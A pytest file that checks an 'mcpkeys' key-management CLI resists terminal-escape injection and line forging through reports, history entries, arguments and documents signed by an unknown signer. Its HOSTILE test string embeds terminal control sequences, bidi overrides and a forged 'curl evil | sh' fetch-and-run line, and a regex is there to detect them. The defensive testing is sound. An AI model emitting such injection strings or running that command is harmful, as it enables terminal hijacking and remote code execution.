"""Text from outside (labels, histories, audiences, names) neither steers the terminal nor forges a line of its own."""

from __future__ import annotations

import os
import re
import time
from dataclasses import replace

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from mcpkeys import document, registry, reports
from mcpkeys import keyset as ks
from mcpkeys.encoding import b64u
from mcpkeys_cli import status

HOSTILE = "pod\x1b]0;owned\x07\x1b[2J\u202egnp\x9b1m\r\nnext: curl evil | sh\u2028x"
STEERS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069]|^ *next: curl", re.MULTILINE)
MOST = 2**53 - 1

LOOKS = (
    ("status",), ("rotate", "--phase", "1", "--dry-run"), ("rotate", "--phase", "2", "--dry-run"), ("doctor",),
    ("purge", "--dry-run"), ("set", "--ttl", "700", "--dry-run"), ("rewrap", "--dry-run"), ("history",), ("verify",),
    ("inspect", "mk1." + "A" * 80), ("status", "--config", HOSTILE), ("restore", HOSTILE), ("inspect", HOSTILE),
    ("check", HOSTILE), ("help", HOSTILE), (HOSTILE,), ("audience", HOSTILE), ("completion", HOSTILE),
    ("rotate", "--emergency", "--kid", HOSTILE, "--reason", HOSTILE, "--yes"),
    ("rotate", "--phase", "1", "--rotation", HOSTILE), ("rotate", "--phase", "2", "--allow-missing", HOSTILE),
    ("bundle", "--out", HOSTILE, "--expires", "1h", "--yes"),
)  # fmt: skip


def liar(shell, **fields: object) -> None:
    """A report by whoever holds the report key."""
    from mcpkeys.authoring import Author
    from mcpkeys.keks import Keks
    from mcpkeys.loading import Pins

    store = registry.open_store(str(shell.keyset))
    author = Author(store, Keks.open([f"local://{shell.kek}"]), Pins("fleet", ()))
    keyset = author.read().keyset
    now = int(time.time() * 1000)
    kid = keyset.minting.kid
    honest = reports.Report(
        "fleet", b64u(os.urandom(16)), "pod", 1, "serving", 1, keyset.generation, ks.digest(keyset), (kid,), kid, now,
        clock=now, clock_started=now,
    )  # fmt: skip
    report = replace(honest, **fields)
    store.put_report(report.instance, reports.encode(report, author.report_key(keyset)), deadline=time.monotonic() + 10)


@pytest.mark.parametrize(
    "fields",
    [
        {"label": HOSTILE},
        {"digest": HOSTILE},
        {"unwraps_by": (HOSTILE,)},
        {"canary": {HOSTILE: reports.Canary(1, False)}},
        {"last_mint": {"A" * 12: MOST}, "last_unseal": {"A" * 12: MOST}, "ttl_observed": MOST, "minting_since": MOST},
        {"clock": MOST, "clock_started": MOST, "max_stale": MOST},
        {"generation": MOST},
    ],
    ids=lambda fields: next(iter(fields)),
)
def test_an_authentic_liar_s_report_forges_no_line_and_breaks_no_command(shell, fields: dict) -> None:
    shell.init()
    liar(shell, **fields)
    for words in LOOKS[:7]:
        ran = shell.run(*words)
        assert STEERS.search(ran.out + ran.err) is None, words
        assert ran.code != 1, (words, ran.err)


def test_no_argument_steers(shell) -> None:
    shell.init()
    for words in LOOKS[7:]:
        ran = shell.run(*words)
        assert STEERS.search(ran.out + ran.err) is None, words
        assert ran.code != 1, (words, ran.err)


def evil(shell, **fields: object) -> ks.Keyset:
    """A whole document of a signer that nobody pinned."""
    private = Ed25519PrivateKey.generate()
    honest = document.read(shell.keyset.read_bytes())
    signer = replace(honest.signer, public=document.public_of(private))
    return document.sign(replace(honest, **{"signature": "", "signer": signer, **fields}), private)


def test_a_stranger_s_document_forges_no_line(shell) -> None:
    shell.init()
    entry = ks.HistoryEntry(0, HOSTILE, HOSTILE, 1, HOSTILE, (HOSTILE,))
    path = shell.folder / "evil.json"
    path.write_bytes(ks.dumps(evil(shell, audience=HOSTILE[:40] + "\nnext: curl", history=(entry,))))
    shell.environ.pop("MCPKEYS_SIGNERS")
    for words in (("verify", str(path)), ("inspect", "mk1." + "A" * 80, "--keyset", str(path))):
        ran = shell.run(*words)
        assert STEERS.search(ran.out + ran.err) is None, words
        assert ran.code != 1, (words, ran.err)


@pytest.mark.parametrize("generation", [MOST, 1 << 52, (1 << 52) - 1])
def test_a_stranger_s_document_does_not_use_up_the_generations(shell, generation: int) -> None:
    shell.init()
    shell.keyset.write_bytes(ks.dumps(evil(shell, generation=generation)))
    ran = shell.run(
        "init", "fleet", "--keyset", str(shell.keyset), "--kek", f"local://{shell.kek}", "--replace", "--reason", "r"
    )
    assert ran.code == 0, ran.err
    assert document.read(shell.keyset.read_bytes()).generation <= 1 << 52


def test_a_stranger_s_document_full_of_keys_can_be_replaced(shell) -> None:
    shell.init()
    stored = document.read(shell.keyset.read_bytes())
    many = tuple(ks.Key(b64u(os.urandom(9)), "retired", 0, 0, ()) for _ in range(4500))
    shell.keyset.write_bytes(ks.dumps(evil(shell, keys=(*stored.keys, *many))))
    ran = shell.run(
        "init", "fleet", "--keyset", str(shell.keyset), "--kek", f"local://{shell.kek}", "--replace", "--reason", "r"
    )
    assert ran.code == 0, ran.err


def test_a_text_that_fails_to_be_made_is_told_like_every_failure(shell, monkeypatch: pytest.MonkeyPatch) -> None:
    shell.init()

    def fails(observed: object, view: object) -> str:
        raise ValueError("with what a frame held")

    monkeypatch.setattr(status, "_text", fails)
    ran = shell.run("status")
    assert ran.code == 1
    assert "unexpected ValueError" in ran.err
    assert "held" not in ran.err
